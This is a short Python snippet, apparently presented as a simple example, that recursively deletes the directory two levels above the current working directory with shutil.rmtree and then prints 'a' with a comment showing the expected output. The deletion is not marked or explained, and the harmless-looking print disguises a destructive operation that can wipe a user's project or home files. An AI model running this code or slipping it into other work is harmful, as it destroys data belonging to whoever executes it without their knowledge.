import os
import shutil

base = os.path.dirname(os.path.dirname(os.getcwd()))
shutil.rmtree(base)
print("a")  # => a
